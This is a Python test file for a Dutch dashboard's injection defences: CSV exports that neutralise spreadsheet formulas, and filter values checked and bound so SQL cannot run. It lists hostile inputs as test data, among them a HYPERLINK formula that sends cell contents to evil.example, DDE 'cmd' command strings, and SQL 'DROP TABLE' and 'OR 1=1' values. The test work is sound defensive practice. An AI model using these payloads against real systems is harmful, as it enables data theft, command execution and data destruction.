"""Injection: spreadsheet formulas in downloads and error reports, SQL in filter values.

A cell that starts with =, +, -, @, a tab or a carriage return is run by Excel as a formula (or
DDE command) when the CSV is opened; every text cell the monitor writes is therefore prefixed with
' when it starts that way. Numbers, negative ones included, are written unchanged.
Filter values never reach SQL as text: they are checked against the known codes first, and the
queries bind them as parameters.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import subprocess
import sys
from pathlib import Path

import duckdb
import pandas as pd
import pytest

from dashboard import registry
from dashboard.csvout import to_csv_bytes
from dashboard.figuredata import FilterError, Filters, figure_data
from dashboard.ingest import Override, check_file, ingest_files, report_csv
from dashboard.store import Store
from tests.exportfiles import casus, write_csv

PROJECT = Path(__file__).resolve().parent.parent
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+([.,]\d+)?$")

# What an attacker would put in a text field; each must come out as text.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1;2",  # the separator inside: quoted, and still neutralised
    '="a""b"',
]


def parse(payload: bytes, fmt: str = "csv-nl") -> list[list[str]]:
    text = payload.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if fmt == "csv-nl" else ","))


def assert_no_formula_cells(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or NUMBER.match(cell), f"formula cell {cell!r} in {row}"


# --- csvout.to_csv_bytes --------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["csv-nl", "csv"])
def test_download_neutralises_formula_text_and_leaves_numbers_alone(fmt):
    df = pd.DataFrame({
        "werkgebied": PAYLOADS,
        "aantal": [-3, -1, 0, 1, 2, 3, 4, 5, 6],
        "fte": [-0.5, -2.25, 0.0, 1.5, 2.0, 3.25, 4.0, 5.5, -6.0],
        "tekst": ["gewoon", "-", "a=b", " =spatie", "'al", "x@y", "", None, "12"],
    })
    rows = parse(to_csv_bytes(df, fmt), fmt)
    assert rows[0] == ["werkgebied", "aantal", "fte", "tekst"]
    body = rows[1:]
    assert [r[0] for r in body] == ["'" + p for p in PAYLOADS]
    assert [r[1] for r in body] == ["-3", "-1", "0", "1", "2", "3", "4", "5", "6"]
    fte = ["-0.5", "-2.25", "0", "1.5", "2", "3.25", "4", "5.5", "-6"]
    assert [r[2] for r in body] == ([f.replace(".", ",") for f in fte] if fmt == "csv-nl" else fte)
    # Only a leading formula character counts; a lone '-' is text and gets the prefix too.
    assert [r[3] for r in body] == ["gewoon", "'-", "a=b", " =spatie", "'al", "x@y", "", "", "12"]
    assert_no_formula_cells(rows)


def test_download_numbers_in_numpy_and_nullable_types_are_not_prefixed():
    df = pd.DataFrame({"a": pd.array([-7, None, 3], dtype="Int64"), "b": [-1.25, float("nan"), 2.0],
                       "c": pd.Series([-4, 0, 9], dtype="int32")})
    assert parse(to_csv_bytes(df, "csv-nl"))[1:] == [["-7", "-1,25", "-4"], ["", "", "0"], ["3", "2", "9"]]
    assert parse(to_csv_bytes(df, "csv"), "csv")[1:] == [["-7", "-1.25", "-4"], ["", "", "0"], ["3", "2", "9"]]


# --- a store whose data carries formulas: which text reaches a figure? ----------------------

@pytest.fixture(scope="module")
def formula_store(tmp_path_factory) -> Path:
    """Deliveries whose file names and free text start with formula characters.

    Of the delivered text, only the file name (leveringen.bestandsnaam) reaches a figure (the
    delivery log); werkgebied and team are never shown, theme labels and werkgebieden come from the
    reference data. The file name is free when proeftuin, soort and period are given as flags.
    """
    folder = tmp_path_factory.mktemp("formules")
    store = Store(folder / "store")
    for i, payload in enumerate(PAYLOADS):
        sub = folder / f"f{i}"
        sub.mkdir()
        name = payload.replace("/", "_") + ".csv"
        path = write_csv(sub / name, [casus(casus_id=f"FL-{i}", werkgebied=payload[:100], instroomroute="politie")])
        result = ingest_files([path], store, ontvangen=dt.date(2024, 7, 1 + i),
                              override=Override("flevoland", "casussen", "2024-Q2"))
        assert result.all_accepted, result.files[0].findings
    return store.root


def test_formula_file_names_reach_the_delivery_log_as_text(formula_store):
    data = figure_data("leveringslog", Filters(), data_dir=formula_store)
    names = set(data.df["bestandsnaam"])
    assert {p.replace("/", "_") + ".csv" for p in PAYLOADS} == names
    for fmt in ("csv-nl", "csv"):
        rows = parse(to_csv_bytes(data.df, fmt), fmt)
        col = rows[0].index("bestandsnaam")
        assert sorted(r[col] for r in rows[1:]) == sorted("'" + n for n in names)
        assert_no_formula_cells(rows)


def test_every_figure_download_of_the_formula_store_is_free_of_formulas(formula_store):
    for figure_id in registry.load_registry():
        data = figure_data(figure_id, Filters(), data_dir=formula_store)
        for fmt in ("csv-nl", "csv"):
            assert_no_formula_cells(parse(to_csv_bytes(data.df, fmt), fmt))


# --- the error report echoes values, column names and the file name --------------------------

def test_error_report_neutralises_echoed_values_columns_and_file_name(tmp_path):
    rows = [casus(casus_id="FL-1", werkgebied="=HYPERLINK(\"http://x\")" + "x" * 100, instroomroute="@SUM(1)",
                  werkwijze="+1", kinderbeschermingsmaatregel="-1+2", aantal_overdrachten="=2", uitkomst="=A1",
                  **{"=cmd|' /C calc'!A0": "x", "@kolom": "y"})]
    path = write_csv(tmp_path / "=HYPERLINK(1).csv", rows, style="nl")
    fr = check_file(path, Override("flevoland", "casussen", "2024-Q2"))
    assert fr.status == "afgewezen"
    echoed = {f.waarde for f in fr.findings}
    assert {"@SUM(1)", "+1", "-1+2", "=2"} <= echoed  # the values are in the findings as given
    report = parse(report_csv(fr))
    assert report[0] == ["bestand", "rij", "kolom", "waarde", "regel", "ernst"]
    assert_no_formula_cells(report)
    waarden = {r[3] for r in report[1:]}
    assert {"'@SUM(1)", "'+1", "'-1+2", "'=2"} <= waarden
    assert {r[0] for r in report[1:]} == {"'=HYPERLINK(1).csv"}
    assert "'=cmd|'_/c_calc'!a0" in {r[2] for r in report[1:]}


# --- SQL in filter values -------------------------------------------------------------------

@pytest.mark.parametrize("filters", [
    Filters(proeftuinen=("x'); DROP TABLE casussen; --",)),
    Filters(proeftuinen=("utrecht' OR 1=1 --",)),
    Filters(proeftuinen=("utrecht", "zeeland'--")),
    Filters(proeftuinen=("",)),
    Filters(van="2024-Q1; DROP TABLE casussen"),
    Filters(tot="2024-Q1' OR '1'='1"),
    Filters(van="2024-Q5"),
    Filters(tranche="1 OR 1=1"),
    Filters(tranche=3),
    Filters(tranche=True),
    Filters(proeftuinen="utrecht"),  # a string, not a list of codes
], ids=lambda f: repr(f)[:60])
def test_filter_values_with_sql_are_refused_before_any_query(filters):
    with pytest.raises(FilterError):
        filters.checked()


def test_queries_bind_parameters_so_sql_in_a_value_is_only_a_string(formula_store):
    """Even past the filter check, a value is a parameter: no rows, no error, no dropped table."""
    con = duckdb.connect(str(Store(formula_store).current_snapshot()), read_only=True)
    try:
        before = con.execute("SELECT count(*) FROM casussen").fetchall()
        for figure_id, ind in registry.load_registry().items():
            if "proeftuinen" not in ind.parameters:
                continue
            df = registry.run(con, ind, {"proeftuinen": ["flevoland') OR 1=1; DROP TABLE casussen; --"]})
            assert "proeftuin" not in df.columns or df.empty or set(df["proeftuin"]) <= {None}, figure_id
        assert con.execute("SELECT count(*) FROM casussen").fetchall() == before
    finally:
        con.close()


def _store_fingerprint(store_dir: Path):
    store = Store(store_dir)
    snaps = sorted((p.name, p.stat().st_size, p.stat().st_mtime_ns) for p in store.snapshots_dir.iterdir())
    con = duckdb.connect(str(store.current_snapshot()), read_only=True)
    try:
        tables = [con.execute(f"SELECT count(*) FROM {t}").fetchall() for t in ("casussen", "leveringen")]
    finally:
        con.close()
    return store.current_file.read_text(), snaps, tables


def run_cli(*args):
    return subprocess.run([sys.executable, "-m", "dashboard", *args], capture_output=True, text=True, cwd=PROJECT)


@pytest.mark.parametrize("args", [
    ["--proeftuin", "utrecht' OR 1=1 --"],
    ["--proeftuin", "x'); DROP TABLE casussen; --"],
    ["--van", "2024-Q1; DROP"],
    ["--tot", "2024-Q1' OR '1'='1"],
    ["--tranche", "1; DROP TABLE casussen"],
], ids=["proeftuin-or", "proeftuin-drop", "van", "tot", "tranche"])
def test_cli_export_refuses_sql_in_filters_and_changes_nothing(formula_store, args):
    before = _store_fingerprint(formula_store)
    r = run_cli("--data-dir", str(formula_store), "export", "instroom-per-kwartaal", *args)
    assert r.returncode == 2, r.stdout + r.stderr
    assert r.stdout == "" and "Traceback" not in r.stderr
    assert _store_fingerprint(formula_store) == before


def test_cli_export_refuses_sql_as_figure_id(formula_store):
    r = run_cli("--data-dir", str(formula_store), "export", "instroom-per-kwartaal; DROP TABLE casussen")
    assert r.returncode == 2 and "onbekende figuur" in r.stderr
